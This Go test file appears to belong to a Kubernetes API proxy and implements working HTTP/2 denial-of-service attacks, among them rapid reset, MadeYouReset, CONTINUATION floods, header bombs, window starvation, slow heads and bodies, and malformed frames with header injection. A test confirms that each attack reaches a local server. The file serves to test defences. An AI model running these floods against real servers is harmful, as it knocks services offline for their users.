package attack_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log"
	"math/rand/v2"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"

	"github.com/watchfan/watchfan/proxy/proxytest"
	"github.com/watchfan/watchfan/proxy/proxytest/steady"
)

// http2Kinds are attacks by frames (RFC 9113, section 10.5).
var http2Kinds = []kind{
	{name: "HTTP/2: rapid reset", run: rapidReset},
	{name: "HTTP/2: streams that the server must reset", run: madeYouReset},
	{name: "HTTP/2: CONTINUATION flood", run: continuationFlood},
	{name: "HTTP/2: heads that never end", run: endlessHeads},
	{name: "HTTP/2: PING flood", run: pingFlood},
	{name: "HTTP/2: SETTINGS flood", run: settingsFlood},
	{name: "HTTP/2: floods of idle frames", run: idleFrames},
	{name: "HTTP/2: empty DATA", run: emptyData},
	{name: "HTTP/2: zero windows", run: zeroWindows, most: 2},
	{name: "HTTP/2: one-byte windows", run: byteWindows, most: 2},
	{name: "HTTP/2: bodies that never end", run: endlessBodies},
	{name: "HTTP/2: header bombs", run: headerBombs},
	{name: "HTTP/2: malformed requests", run: malformedHTTP2},
}

// streamsAllowed is how many streams a connection may have at the same time. kube-apiserver allows
// as many.
const streamsAllowed = 100

// ownList and ownWatch are what an attacker may read.
func (a *attacker) ownList() string {
	return "/api/v1/namespaces/" + a.namespace() + "/configmaps?resourceVersion=0"
}

func (a *attacker) ownWatch() string { return a.ownList() + "&watch=1" }

// bursts opens connections, and lets send send on each so many times a second until it fails.
func (a *attacker) bursts(ctx context.Context, perSecond float64, deaf bool, send func(c *h2Conn) error) {
	pause := time.Duration(float64(time.Second) / (perSecond * a.Rate))
	a.every(ctx, 1, func() {
		a.onHTTP2(ctx, a.Hostile.Tenants[a.tenant], deaf, nil, func(c *h2Conn) error {
			for {
				if err := errors.Join(send(c), c.flush()); err != nil {
					return err
				}
				a.note("burst")
				if !proxytest.Sleep(ctx, pause) {
					return nil
				}
			}
		})
	})
}

// rapidReset opens streams and resets them at once (CVE-2023-44487): lists, watches, and writes.
func rapidReset(ctx context.Context, a *attacker) {
	a.bursts(ctx, 20, false, func(c *h2Conn) (err error) {
		for range 50 {
			method, uri := "GET", []string{a.ownList(), a.ownWatch(), allConfigMaps + manyValues(50)}[a.rng.IntN(3)]
			if a.rng.IntN(10) == 0 {
				method, uri = "POST", "/api/v1/namespaces/"+a.namespace()+"/configmaps"
			}
			id, wrong := c.ask(method, uri, method == "GET")
			err = errors.Join(err, wrong, c.WriteRSTStream(id, http2.ErrCodeCancel))
		}
		return err
	})
}

// madeYouReset opens streams and has the server reset them (CVE-2025-8671): by an update of nothing
// to a window, by one that overflows it, and by a body behind the end.
func madeYouReset(ctx context.Context, a *attacker) {
	a.bursts(ctx, 20, false, func(c *h2Conn) error {
		var err error
		for range 50 {
			id, wrong := c.ask("GET", a.ownWatch(), true)
			err = errors.Join(err, wrong)
			switch a.rng.IntN(3) {
			case 0:
				err = errors.Join(err, c.WriteWindowUpdate(id, 0))
			case 1:
				err = errors.Join(err, c.WriteWindowUpdate(id, 1<<31-1))
			case 2:
				err = errors.Join(err, c.WriteData(id, true, []byte("{}")))
			}
		}
		return err
	})
}

// continuationFlood sends heads of megabytes that never end (CVE-2023-45288).
func continuationFlood(ctx context.Context, a *attacker) {
	fragment := []byte(strings.Repeat("\x00\x01a\x01b", 3000)) // literal fields that no table keeps
	a.every(ctx, 2, func() {
		a.onHTTP2(ctx, "flood", false, nil, func(c *h2Conn) error {
			err := c.head(1, c.encode("GET", "/version"), true, false)
			for range 500 {
				if err != nil {
					break
				}
				err = c.WriteContinuation(1, false, fragment)
			}
			return err
		})
	})
}

// endlessHeads send a head byte by byte.
func endlessHeads(ctx context.Context, a *attacker) {
	a.crowd(20, func(int) {
		a.onHTTP2(ctx, "slow", false, nil, func(c *h2Conn) error {
			err := c.head(1, c.encode("GET", "/version"), true, false)
			for err == nil && proxytest.Sleep(ctx, 100*time.Millisecond) {
				err = errors.Join(c.WriteContinuation(1, false, []byte("\x00\x01a\x01b")), c.flush())
			}
			return err
		})
	})
}

// pingFlood asks for answers and does not read them.
func pingFlood(ctx context.Context, a *attacker) {
	a.bursts(ctx, 20, true, func(c *h2Conn) (err error) {
		for range 500 {
			err = errors.Join(err, c.WritePing(false, [8]byte{}))
		}
		return err
	})
}

// settingsFlood does the same with settings, which change the windows of open streams each time.
func settingsFlood(ctx context.Context, a *attacker) {
	a.bursts(ctx, 20, true, func(c *h2Conn) (err error) {
		if c.next == 1 {
			for range streamsAllowed {
				_, wrong := c.ask("GET", a.ownWatch(), true)
				err = errors.Join(err, wrong)
			}
		}
		for i := range uint32(300) {
			err = errors.Join(err, c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: i}))
		}
		return err
	})
}

// idleFrames sends frames that ask for nothing: updates of windows, priorities, and types that
// nobody knows.
func idleFrames(ctx context.Context, a *attacker) {
	a.bursts(ctx, 20, false, func(c *h2Conn) (err error) {
		for i := range uint32(300) {
			err = errors.Join(err, c.WriteWindowUpdate(0, 1), c.WritePriority(2*i+1, http2.PriorityParam{StreamDep: 0}),
				c.WriteRawFrame(0xf0, 0, 0, make([]byte, 100)))
		}
		return err
	})
}

// emptyData sends a body without bytes.
func emptyData(ctx context.Context, a *attacker) {
	a.bursts(ctx, 20, false, func(c *h2Conn) (err error) {
		if c.next == 1 {
			_, err = c.ask("POST", "/api/v1/namespaces/"+a.namespace()+"/configmaps?dryRun=All", false)
		}
		for range 300 {
			err = errors.Join(err, c.WriteData(1, false, nil))
		}
		return err
	})
}

// windows opens as many streams as it may, lists and watches, with a window of each.
func (a *attacker) windows(ctx context.Context, size uint32, then func(c *h2Conn) error) {
	settings := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: size}}
	a.onHTTP2(ctx, a.Hostile.Crawler, false, settings, func(c *h2Conn) (err error) {
		for i := range streamsAllowed {
			uri := allConfigMaps + "resourceVersion=0"
			if i%4 > 0 { // a list has megabytes
				uri += "&watch=1"
			}
			_, wrong := c.ask("GET", uri, true)
			err = errors.Join(err, wrong)
		}
		if err = errors.Join(err, c.flush()); err == nil {
			err = then(c)
		}
		return err
	})
}

// zeroWindows asks for everything and takes none of it.
func zeroWindows(ctx context.Context, a *attacker) {
	a.windows(ctx, 0, func(*h2Conn) error {
		<-ctx.Done()
		return nil
	})
}

// byteWindows takes a byte at a time.
func byteWindows(ctx context.Context, a *attacker) {
	a.windows(ctx, 1, func(c *h2Conn) (err error) {
		for err == nil && proxytest.Sleep(ctx, 100*time.Millisecond) {
			for i := range uint32(streamsAllowed) {
				err = errors.Join(err, c.WriteWindowUpdate(2*i+1, 1))
			}
			err = errors.Join(err, c.flush())
		}
		return err
	})
}

// endlessBodies begins writes and sends no body.
func endlessBodies(ctx context.Context, a *attacker) {
	a.crowd(3, func(int) {
		a.onHTTP2(ctx, a.Hostile.Tenants[a.tenant], false, nil, func(c *h2Conn) (err error) {
			for range streamsAllowed {
				_, wrong := c.ask("POST", "/api/v1/namespaces/"+a.namespace()+"/configmaps?dryRun=All", false)
				err = errors.Join(err, wrong)
			}
			if err = errors.Join(err, c.flush()); err == nil {
				<-ctx.Done()
			}
			return err
		})
	})
}

// headerBombs are heads that are small on the wire and large in memory (CVE-2026-49975): one large
// field that is named again and again, or very many small ones.
func headerBombs(ctx context.Context, a *attacker) {
	a.every(ctx, 5, func() {
		large := a.rng.IntN(2) == 0
		a.onHTTP2(ctx, "bomb", false, nil, func(c *h2Conn) error {
			more := []string{"x-large", strings.Repeat("x", 3900)}
			if !large {
				more = []string{"cookie", "a=b"}
			}
			block := c.encode("GET", "/version", more...)
			block = append(block, strings.Repeat("\xbe", 10_000)...) // the newest entry of the table
			return c.head(1, block, true, true)
		})
	})
}

// malformedFields are heads that no server may take for a request (RFC 9113, section 8).
var malformedFields = [][]string{
	{":method", "GET", ":scheme", "https", ":authority", "localhost", ":path", "/version", "X-Upper", "a"},
	{":method", "GET", ":scheme", "https", ":authority", "localhost", ":path", "/version", "connection", "close"},
	{":method", "GET", ":scheme", "https", ":authority", "localhost", ":path", "/version", "transfer-encoding", "chunked"},
	{":method", "GET", ":scheme", "https", ":authority", "localhost", ":path", "/version", "te", "gzip"},
	{":method", "GET", ":scheme", "https", ":authority", "localhost", ":path", "/version", ":path", "/api/v1/secrets"},
	{":method", "GET", ":scheme", "https", ":authority", "localhost", ":path", "/version", "host", "elsewhere"},
	{":method", "GET", ":scheme", "https", ":authority", "localhost", "accept", "*/*", ":path", "/version"},
	{":method", "GET", ":scheme", "https", ":authority", "localhost", ":path", ""},
	{":method", "GET", ":scheme", "https", ":authority", "localhost", ":path", "/version", ":unknown", "a"},
	{":method", "GET", ":scheme", "https", ":authority", "localhost", ":path", "/version", "a", "b\r\nc: d"},
	{":method", "GET", ":scheme", "https", ":authority", "localhost", ":path", "/version", "a b", "c"},
	{":method", "GET", ":scheme", "https", ":authority", "localhost", ":path", "/version", "content-length", "7"},
	{":method", "CONNECT", ":scheme", "https", ":authority", "localhost", ":path", "/version"},
	{":scheme", "https", ":authority", "localhost", ":path", "/version"},
}

// malformedHTTP2 sends malformed heads, and frames in an order that is not allowed.
func malformedHTTP2(ctx context.Context, a *attacker) {
	a.every(ctx, 10, func() {
		a.onHTTP2(ctx, "malformed", false, nil, func(c *h2Conn) error {
			switch i := a.rng.IntN(len(malformedFields) + 4); i {
			case 0:
				return c.head(2, c.encode("GET", "/version"), false, true)
			case 1:
				return c.WriteData(7, true, []byte("of a stream that nobody has opened"))
			case 2:
				return c.WriteRawFrame(http2.FrameSettings, 0, 0, make([]byte, 5))
			case 3:
				const flags = http2.FlagHeadersEndHeaders | http2.FlagHeadersPadded
				return c.WriteRawFrame(http2.FrameHeaders, flags, 1, []byte{255, 0x82})
			default:
				return c.head(1, c.encodeAll(malformedFields[i-4]...), true, true)
			}
		})
	})
}

// TestHTTP2Kinds: each attack reaches a server, which answers it or ends the connection. Go's own
// server stands in for the server under attack.
func TestHTTP2Kinds(t *testing.T) {
	t.Parallel()
	for _, k := range http2Kinds {
		t.Run(k.name, func(t *testing.T) {
			t.Parallel()
			var connections, requests atomic.Int64
			server := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				requests.Add(1)
				_, _ = io.Copy(w, r.Body)
			}))
			server.EnableHTTP2 = true
			server.Config.ErrorLog = log.New(io.Discard, "", 0) // it complains of what it gets
			server.Config.ConnState = func(_ net.Conn, state http.ConnState) {
				if state == http.StateActive {
					connections.Add(1)
				}
			}
			server.StartTLS()
			defer server.Close()
			a := &attacker{campaign: campaign{Rate: 1, Secure: server.Listener.Addr().String(), Hostile: hostile{Tenants: []string{"m"}}},
				ledger: newLedger(), kind: k, rng: rand.New(rand.NewPCG(1, 2))}
			ctx, cancel := context.WithCancel(t.Context())
			ended := make(chan struct{})
			go func() { defer close(ended); k.run(ctx, a) }()
			steady.Until(t, "attack", func() (err error) {
				a.ledger.change(k.name, func(r *record) {
					// Heads and bodies that never end are noted at their end.
					if r.sent() == 0 && requests.Load() == 0 && connections.Load() < 20 {
						err = fmt.Errorf("%d connections", connections.Load())
					}
				})
				return err
			})
			cancel()
			<-ended
			if r := a.ledger.Kinds[k.name]; r.sent() == 0 || r.Answers["refused"] > 0 || len(r.Breaches) > 0 {
				t.Errorf("it has not happened: %+v", r)
			} else {
				t.Log(a.ledger)
			}
		})
	}
}
